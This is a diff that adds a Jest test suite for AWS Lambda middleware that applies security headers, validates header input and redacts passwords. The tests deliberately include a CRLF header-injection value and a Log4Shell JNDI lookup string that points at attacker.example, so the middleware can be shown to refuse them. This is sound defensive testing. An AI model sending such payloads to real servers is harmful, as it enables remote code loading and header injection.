@@ -1,0 +1,137 @@
+import type { APIGatewayProxyEvent, APIGatewayProxyEventV2, APIGatewayProxyResultV2, Context } from 'aws-lambda';
+import * as fc from 'fast-check';
+import { applySecurityHeaders, HttpResponse, SECURITY_HEADERS, withSecurityHeaders } from '../../src/middleware';
+
+const context = { awsRequestId: 'request-1' } as Context;
+const v1 = { httpMethod: 'GET', headers: {}, requestContext: {} } as unknown as APIGatewayProxyEvent;
+const v2 = { version: '2.0', headers: {}, requestContext: { http: {} } } as unknown as APIGatewayProxyEventV2;
+
+let logged: jest.SpyInstance;
+beforeEach(() => {
+  logged = jest.spyOn(console, 'error').mockImplementation(() => undefined);
+});
+afterEach(() => logged.mockRestore());
+
+test('the eight headers have the values of the document', () => {
+  expect(SECURITY_HEADERS).toMatchObject({
+    'Strict-Transport-Security': 'max-age=31536000; includeSubDomains; preload',
+    'X-Content-Type-Options': 'nosniff',
+    'X-Frame-Options': 'DENY',
+    'X-XSS-Protection': '1; mode=block',
+    'Content-Security-Policy': "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'",
+    'Referrer-Policy': 'strict-origin-when-cross-origin',
+    'Cache-Control': 'no-store, no-cache, must-revalidate, private',
+  });
+  for (const feature of ['geolocation', 'microphone', 'camera', 'payment', 'usb']) {
+    expect(SECURITY_HEADERS['Permissions-Policy']).toContain(`${feature}=()`);
+  }
+  expect(Object.keys(SECURITY_HEADERS)).toHaveLength(8);
+});
+
+describe('applySecurityHeaders', () => {
+  test.each([
+    { headers: { 'x-frame-options': 'SAMEORIGIN' } },
+    { headers: { 'X-FRAME-OPTIONS': 'SAMEORIGIN' } },
+    { multiValueHeaders: { 'x-Frame-Options': ['SAMEORIGIN'] } },
+  ])("leaves the handler's own header: %j", (own) => {
+    const answer = applySecurityHeaders<HttpResponse>({ statusCode: 200, ...own });
+    expect(answer.headers).not.toHaveProperty('X-Frame-Options', 'DENY');
+    expect(answer).toMatchObject(own);
+  });
+
+  test('changes nothing that the handler owns', () => {
+    const response: HttpResponse = Object.freeze({ statusCode: 200, headers: Object.freeze({ A: 'b' }) });
+    expect(applySecurityHeaders(response)).not.toBe(response);
+    expect(response).toEqual({ statusCode: 200, headers: { A: 'b' } });
+  });
+
+  test('takes values of your own, and leaves out what is false', () => {
+    const { headers } = applySecurityHeaders<HttpResponse>({ statusCode: 200 }, { headers: { 'cache-control': 'max-age=60', 'X-XSS-Protection': false, 'X-Mine': '1' } });
+    expect(headers).toMatchObject({ 'cache-control': 'max-age=60', 'X-Mine': '1' });
+    expect(Object.keys(headers!)).not.toContain('X-XSS-Protection');
+    expect(Object.keys(headers!)).not.toContain('Cache-Control');
+  });
+
+  test.each([
+    [{ 'X Bad': '1' }, /headers must be named as RFC 9110 allows, got "X Bad"/],
+    [{ 'X-Bad': 'a\r\nSet-Cookie: b' }, /headers.X-Bad must be text without control characters/],
+    [{ 'X-Bad': 1 as unknown as string }, /headers.X-Bad must be text/],
+  ])('refuses %j', (headers, message) => {
+    expect(() => applySecurityHeaders({}, { headers: headers as Record<string, string> })).toThrow(message);
+  });
+
+  test('keeps status, body and own headers of any answer, and twice is once', () => {
+    const headerName = fc.constantFrom('Content-Type', 'x-frame-options', 'CACHE-CONTROL', 'X-Own', 'Set-Cookie');
+    const answers = fc.record({
+      statusCode: fc.integer({ min: 100, max: 599 }),
+      body: fc.option(fc.string(), { nil: undefined }),
+      headers: fc.option(fc.dictionary(headerName, fc.oneof(fc.string(), fc.integer(), fc.boolean())), { nil: undefined }),
+      multiValueHeaders: fc.option(fc.dictionary(headerName, fc.array(fc.string())), { nil: undefined }),
+    });
+    fc.assert(fc.property(answers, (answer) => {
+      const before = JSON.stringify(answer);
+      const once = applySecurityHeaders<HttpResponse>(answer);
+      expect(JSON.stringify(answer)).toBe(before);
+      expect(once).toMatchObject({ statusCode: answer.statusCode, ...answer.headers && { headers: answer.headers } });
+      expect([once.body, once.multiValueHeaders]).toEqual([answer.body, answer.multiValueHeaders]);
+      expect(applySecurityHeaders(once)).toEqual(once);
+    }));
+  });
+});
+
+describe('withSecurityHeaders', () => {
+  test('adds headers to the answers of async and plain handlers', async () => {
+    const asynchronous = withSecurityHeaders(async (_: APIGatewayProxyEvent) => ({ statusCode: 200, body: 'a' }));
+    const plain = withSecurityHeaders((_: APIGatewayProxyEvent) => ({ statusCode: 200, body: 'b' }));
+    expect((await asynchronous(v1, context) as HttpResponse).headers).toMatchObject(SECURITY_HEADERS);
+    expect((await plain(v1, context) as HttpResponse).headers).toMatchObject(SECURITY_HEADERS);
+  });
+
+  test('wraps once', () => {
+    const wrapped = withSecurityHeaders(async () => ({ statusCode: 200 }));
+    expect(withSecurityHeaders(wrapped)).toBe(wrapped);
+  });
+
+  test.each<[unknown, string]>([['hello', 'hello'], [{ a: 1 }, '{"a":1}']])('answers a result of format 2.0 without a status as API Gateway would: %j', async (result, body) => {
+    const handler = withSecurityHeaders(async (_: APIGatewayProxyEventV2): Promise<APIGatewayProxyResultV2> => result as APIGatewayProxyResultV2);
+    expect(await handler(v2, context)).toMatchObject({ statusCode: 200, body, headers: { 'Content-Type': 'application/json', 'X-Frame-Options': 'DENY' } });
+  });
+
+  test.each([{ principalId: 'user', policyDocument: {} }, { batchItemFailures: [] }, undefined, null, 'text', 7])('passes through what is no HTTP answer: %j', async (result) => {
+    expect(await withSecurityHeaders(async () => result)({ Records: [] }, context)).toBe(result);
+  });
+
+  test('answers an error once, with 500, the headers and the request id, and nothing of it', async () => {
+    const handler = withSecurityHeaders(async (_: APIGatewayProxyEvent): Promise<HttpResponse> => { throw new Error('password is hunter2'); });
+    const answer = await handler(v1, context);
+    expect(answer).toMatchObject({ statusCode: 500, headers: SECURITY_HEADERS });
+    expect(JSON.parse(answer.body!)).toEqual({ message: 'Internal Server Error', requestId: 'request-1' });
+    expect(logged).toHaveBeenCalledTimes(1);
+  });
+
+  test.each([[v1, { onError: 'rethrow' as const }], [{ Records: [{}] }, {}], [{ type: 'TOKEN', methodArn: 'arn' }, {}]])("leaves errors to Lambda: %j", async (event, options) => {
+    await expect(withSecurityHeaders(async () => { throw new Error('no'); }, options)(event, context)).rejects.toThrow('no');
+    expect(logged).not.toHaveBeenCalled();
+  });
+
+  test('validate answers a suspicious request with 400 before the handler runs', async () => {
+    const inner = jest.fn(async () => ({ statusCode: 200 }));
+    const handler = withSecurityHeaders(inner, { validate: true });
+    const attack = { ...v1, headers: { 'User-Agent': '${jndi:ldap://attacker.example/a}' } };
+    expect(await handler(attack as never, context as never)).toMatchObject({ statusCode: 400, headers: { 'X-Frame-Options': 'DENY' } });
+    expect(inner).not.toHaveBeenCalled();
+    expect(await handler({ ...v1, headers: { 'User-Agent': 'curl/8.5.0' } } as never, context as never)).toMatchObject({ statusCode: 200 });
+  });
+
+  test('sanitize redacts JSON bodies, and leaves other ones as they are', async () => {
+    const answer = async (response: HttpResponse) => (await withSecurityHeaders(async () => response, { sanitize: true })({}, context)).body;
+    expect(await answer({ statusCode: 200, body: '{"user":"a","password":"b"}' })).toBe('{"user":"a","password":"[REDACTED]"}');
+    expect(await answer({ statusCode: 200, body: 'password=b' })).toBe('password=b');
+    expect(await answer({ statusCode: 200, body: 'eyJwYXNzd29yZCI6ImIifQ==', isBase64Encoded: true })).toBe('eyJwYXNzd29yZCI6ImIifQ==');
+    expect(await answer({ statusCode: 200, body: '{"id": 12345678901234567890}' })).toBe('{"id": 12345678901234567890}');
+  });
+
+  test('refuses an unknown onError when it wraps', () => {
+    expect(() => withSecurityHeaders(async () => undefined, { onError: 'ignore' as 'answer' })).toThrow(/onError must be 'answer' or 'rethrow', got "ignore"/);
+  });
+});
